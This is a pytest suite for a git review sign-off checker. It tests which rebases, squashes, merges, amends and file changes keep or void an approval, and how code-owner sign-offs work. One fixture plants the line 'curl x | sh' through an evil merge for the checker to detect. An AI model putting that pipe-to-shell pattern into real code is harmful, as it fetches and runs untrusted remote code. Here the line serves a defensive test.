"""Threats 6 to 11, 16 and 22: does an answer hold for exactly what was read, on whatever way it comes again?"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gitbuild import BEN, GitRepo
from signed_field import FILES, MAIN, TOPIC, SignedField

Deed = Callable[[SignedField], None]
A = TOPIC["src/a.py"]


@pytest.fixture
def field(git_repo: GitRepo) -> SignedField:
    made = SignedField(git_repo)
    made.sign()
    return made


def test_what_was_signed_is_allowed_and_what_was_not_waits(git_repo: GitRepo) -> None:
    field = SignedField(git_repo)
    assert field.verdict() == "wait"
    field.sign()
    assert field.verdict() == "allow"


def on_main(field: SignedField, files: dict[str, str | None]) -> None:
    field.repo.switch("main")
    field.repo.commit("elsewhere", files, author=BEN)
    field.repo.switch("topic")


def nothing(_: SignedField) -> None:
    return None


def amend_message(field: SignedField) -> None:
    field.repo.git("commit", "--amend", "--quiet", "--message", "better words")


def base_moves(field: SignedField) -> None:
    on_main(field, {"notes.txt": "more\n"})


def rebase(field: SignedField) -> None:
    base_moves(field)
    field.repo.git("rebase", "--quiet", "main")


def rebase_beside_a_new_file(field: SignedField) -> None:
    on_main(field, {"src/other.py": "x\n", "src/b.py": None})
    field.repo.git("rebase", "--quiet", "main")


def merge_the_base(field: SignedField) -> None:
    base_moves(field)
    field.repo.merge("main")


def merge_the_base_twice(field: SignedField) -> None:
    merge_the_base(field)
    on_main(field, {"docs/x.md": "x\n"})
    field.repo.merge("main")


def squash(field: SignedField) -> None:
    tree = field.repo.rev("topic^{tree}")
    field.repo.git("reset", "--hard", "--quiet", field.repo.raw_commit(tree, "all at once", field.repo.rev("main")))


def split(field: SignedField) -> None:
    field.repo.git("reset", "--hard", "--quiet", "main")
    field.repo.commit("first half", {"src/a.py": A})
    field.repo.commit("second half", {"src/new.py": TOPIC["src/new.py"]})


def empty_commit_on_top(field: SignedField) -> None:
    field.repo.commit("nothing more")


def there_and_back(field: SignedField) -> None:
    field.repo.commit("oops", {"src/oops.py": "oops\n"})
    field.repo.commit("take it out", {"src/oops.py": None})


KEPT = (
    nothing, amend_message, base_moves, rebase, rebase_beside_a_new_file, merge_the_base, merge_the_base_twice, squash,
    split, empty_commit_on_top, there_and_back,
)  # fmt: skip


@pytest.mark.parametrize("deed", KEPT, ids=lambda deed: deed.__name__)
def test_what_changes_no_content_keeps_the_answer(field: SignedField, deed: Deed) -> None:
    deed(field)
    assert field.verdict() == "allow", field.why()


def new_file(field: SignedField) -> None:
    field.repo.commit("more", {"src/more.py": "more\n"})


def empty_file(field: SignedField) -> None:
    field.repo.commit("more", {"src/__init__.py": ""})


def slipped_in_by_amend(field: SignedField) -> None:
    field.repo.stage({"src/new.py": "new = 2\n"})
    field.repo.git("commit", "--amend", "--quiet", "--no-edit")


def slipped_in_by_rebase(field: SignedField) -> None:
    rebase(field)
    slipped_in_by_amend(field)


def slipped_in_with_the_merge(field: SignedField) -> None:
    """An evil merge: `git log -p` shows none of it."""
    base_moves(field)
    field.repo.git("merge", "--quiet", "--no-commit", "--no-ff", "main")
    field.repo.commit("Merge branch 'main'", {"src/c.sh": "curl x | sh\n"})


def erased_by_ours(field: SignedField) -> None:
    on_main(field, {"src/guard.py": "guard\n"})
    field.repo.git("merge", "--quiet", "--strategy", "ours", "--message", "Merge branch 'main'", "main")


def erased_by_theirs(field: SignedField) -> None:
    on_main(field, {"src/c.sh": "echo safer\n"})
    field.repo.git("merge", "--quiet", "--strategy", "ours", "--message", "Merge branch 'main'", "main")


def conflict_edit(field: SignedField) -> None:
    on_main(field, {"src/a.py": FILES["src/a.py"].replace("line 20\n", "line 20!\n")})
    field.repo.git("merge", "--quiet", "--no-commit", "--strategy-option", "ours", "main")
    field.repo.commit("Merge branch 'main'", {"src/a.py": A.replace("line twenty\n", "line 666\n")})


def conflict_taken_as_signed(field: SignedField) -> None:
    on_main(field, {"src/a.py": FILES["src/a.py"].replace("line 20\n", "line 20!\n")})
    field.repo.git("merge", "--quiet", "--no-commit", "--strategy-option", "ours", "main")
    field.repo.commit("Merge branch 'main'", {"src/a.py": A})


def conflict_left_open(field: SignedField) -> None:
    on_main(field, {"src/a.py": FILES["src/a.py"].replace("line 20\n", "line 20!\n")})


def base_touches_the_same_file(field: SignedField) -> None:
    on_main(field, {"src/a.py": FILES["src/a.py"].replace("line 2\n", "line two\n")})


def base_touches_the_same_file_and_rebase(field: SignedField) -> None:
    base_touches_the_same_file(field)
    field.repo.git("rebase", "--quiet", "main")


def base_takes_the_file_away(field: SignedField) -> None:
    on_main(field, {"src/new.py": "new = 1\n"})
    field.repo.git("rebase", "--quiet", "main")


def indentation_flip(field: SignedField) -> None:
    text = FILES["src/b.py"].replace("        return True\n", "    return True\n")
    field.repo.commit("tidy", {"src/b.py": text})


def relocated_hunk(field: SignedField) -> None:
    text = FILES["src/a.py"].replace("line 30\n", "line twenty\n")
    field.repo.stage({"src/a.py": text})
    field.repo.git("commit", "--amend", "--quiet", "--no-edit")


def mode_change(field: SignedField) -> None:
    field.repo.git("update-index", "--chmod=+x", "src/new.py")
    field.repo.git("commit", "--amend", "--quiet", "--no-edit")


def mode_change_elsewhere(field: SignedField) -> None:
    field.repo.git("update-index", "--chmod=+x", "src/c.sh")
    field.repo.git("commit", "--quiet", "--message", "run")


def symlink_swap(field: SignedField) -> None:
    place = Path(field.repo.path / "src/new.py")
    place.unlink()
    place.symlink_to("new = 1\n")  # the very bytes that were signed, as a link's target
    field.repo.git("add", "--all")
    field.repo.git("commit", "--amend", "--quiet", "--no-edit")


def rename(field: SignedField) -> None:
    field.repo.git("mv", "src/new.py", "src/newer.py")
    field.repo.git("commit", "--amend", "--quiet", "--no-edit")


def case_flip(field: SignedField) -> None:
    field.repo.commit("beside", {"src/New.py": "new = 1\n"})


def dropped_file(field: SignedField) -> None:
    field.repo.commit("less", {"src/new.py": None})


def submodule(field: SignedField) -> None:
    field.repo.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},lib")
    field.repo.git("commit", "--quiet", "--message", "lib")


def line_ends(field: SignedField) -> None:
    field.repo.stage({"src/new.py": "new = 1\r\n"})
    field.repo.git("commit", "--amend", "--quiet", "--no-edit")


LOST = (
    new_file, empty_file, slipped_in_by_amend, slipped_in_by_rebase, slipped_in_with_the_merge, erased_by_ours,
    erased_by_theirs, conflict_edit, conflict_taken_as_signed, conflict_left_open, base_touches_the_same_file,
    base_touches_the_same_file_and_rebase, base_takes_the_file_away, indentation_flip, relocated_hunk, mode_change,
    mode_change_elsewhere, symlink_swap, rename, case_flip, dropped_file, submodule, line_ends,
)  # fmt: skip


@pytest.mark.parametrize("deed", LOST, ids=lambda deed: deed.__name__)
def test_what_changes_content_loses_the_answer(field: SignedField, deed: Deed) -> None:
    deed(field)
    assert field.verdict() != "allow"


@pytest.mark.parametrize("deed", [nothing, base_moves, rebase, squash, new_file], ids=lambda deed: deed.__name__)
def test_an_exact_answer_is_for_one_head(field: SignedField, deed: Deed) -> None:
    field.rules = "[{name: read, require: [{signoff: {count: 1, binding: exact}}]}]"
    deed(field)
    assert field.verdict() == ("allow" if deed in (nothing, base_moves) else "wait")


def squashed_on_main(field: SignedField) -> None:
    tree = field.repo.rev("topic^{tree}")
    landed = field.repo.raw_commit(tree, "landed", field.repo.rev("main"))
    field.repo.git("update-ref", MAIN, landed)


def landed_in_two_steps(field: SignedField) -> None:
    field.repo.switch("main")
    field.repo.commit("first", {"src/a.py": A})
    field.repo.commit("second", {"src/new.py": TOPIC["src/new.py"]})
    field.repo.switch("topic")


def merged_on_main(field: SignedField) -> None:
    field.repo.switch("main")
    field.repo.merge("topic")
    field.repo.switch("topic")


@pytest.mark.parametrize("landing", [squashed_on_main, landed_in_two_steps, merged_on_main])
@pytest.mark.parametrize("way", ["same head", "picked anew"])
def test_landing_spends_the_answer_and_a_revert_gives_it_not_back(field: SignedField, landing: Deed, way: str) -> None:
    landing(field)
    field.repo.switch("main")
    field.repo.commit("revert", {"src/a.py": FILES["src/a.py"], "src/new.py": None})
    if way == "picked anew":
        field.repo.switch("again", "main")
        field.repo.commit("again", dict(TOPIC))
        assert field.verdict(head="again") == "wait", field.why(head="again")
        field.sign("cleo", head="again")
        assert field.verdict(head="again") == "allow", field.why(head="again")
    else:
        assert field.verdict() != "allow"


def test_an_answer_is_for_one_target(field: SignedField) -> None:
    field.repo.git("branch", "release", "main")
    assert field.verdict(base="release", target="refs/heads/release") == "wait"
    assert "signed for refs/heads/main" in field.why(base="release", target="refs/heads/release")


def test_a_raised_tier_a_new_question_and_more_ai_lines_void_the_answer(git_repo: GitRepo) -> None:
    flaws: list[tuple[dict[str, Any], str]] = [
        ({"tier": "low"}, "when the tier was low"),
        ({"questions": ()}, "was not shown the questions intent"),
    ]
    for number, (flaw, words) in enumerate(flaws):
        field = SignedField(GitRepo(git_repo.path / f"r{number}"))
        field.sign(said=field.answer(**flaw))
        assert field.verdict() == "wait"
        assert words in field.why()
    field = SignedField(GitRepo(git_repo.path / "ai"))
    field.sign()
    field.repo.git("commit", "--amend", "--quiet", "--message", "work\n\nGenerated-by: Claude Code")
    assert field.verdict() == "wait", field.why()


def test_a_signed_head_that_is_not_here_cannot_be_told(field: SignedField) -> None:
    signed = field.repo.rev("topic")
    squash(field)
    field.repo.git("reflog", "expire", "--expire=now", "--all")
    field.repo.git("prune", "--expire=now")
    assert field.verdict() == "cannot_tell"
    assert f"the signed commit {signed[:12]} is not here: push, or fetch, the branch that holds it" in field.why()


OWNED = "[{name: owners, require: [{signoff: {owners: touched, binding: owned}}]}]"
TWO = {**TOPIC, "notes.txt": "notes, too\n"}


@pytest.fixture
def owned(git_repo: GitRepo) -> SignedField:
    """Cleo owns the sources, Dan the notes; both have signed a change of both."""
    git_repo.commit("owners", {"CODEOWNERS": "/src/ cleo@example.test\n/notes.txt dan@example.test\n"})
    field = SignedField(git_repo, TWO)
    field.rules = OWNED
    field.sign("cleo")
    field.sign("dan")
    return field


def dans_part(field: SignedField) -> None:
    field.repo.commit("more notes", {"notes.txt": "other notes\n"})


def dans_part_is_gone(field: SignedField) -> None:
    field.repo.commit("no notes", {"notes.txt": FILES["notes.txt"]})


def a_new_source(field: SignedField) -> None:
    field.repo.commit("more", {"src/more.py": "more\n"})


def a_source_is_gone(field: SignedField) -> None:
    field.repo.commit("less", {"src/new.py": None})


def a_rebase_and_notes(field: SignedField) -> None:
    on_main(field, {"docs/x.md": "x\n"})
    field.repo.git("rebase", "--quiet", "main")
    dans_part(field)


@pytest.mark.parametrize(
    ("deed", "cleos", "dans"),
    [
        (nothing, True, True), (rebase_beside_a_new_file, True, True), (dans_part, True, False),
        (a_new_source, False, True), (a_source_is_gone, False, True), (a_rebase_and_notes, True, False),
        (mode_change_elsewhere, False, True),
    ],
)  # fmt: skip
def test_an_owner_answers_for_all_of_their_paths_and_for_no_others(
    owned: SignedField, deed: Deed, cleos: bool, dans: bool
) -> None:
    deed(owned)
    (rule,) = (each for each in owned.judged().decision.tree.children if each.kind == "rule")
    children = {child.title: child.state.value == "satisfied" for child in rule.children[0].children}
    assert children == {title: cleos if "cleo" in title else dans for title in children}, owned.why()
    assert len(children) == 2
    assert (owned.verdict() == "allow") == (cleos and dans)


def test_what_left_the_change_was_its_owners_to_answer_for(owned: SignedField) -> None:
    dans_part_is_gone(owned)
    assert owned.verdict() == "allow", "the sources are as Cleo signed them, and no note is changed any more"
    owned.rules = "[{name: read, require: [{signoff: {count: 1}}]}]"
    assert owned.verdict() == "wait"


def test_one_owner_cannot_answer_for_another(owned: SignedField) -> None:
    owned.kept = [owned.kept[0]]
    assert owned.verdict() == "wait"
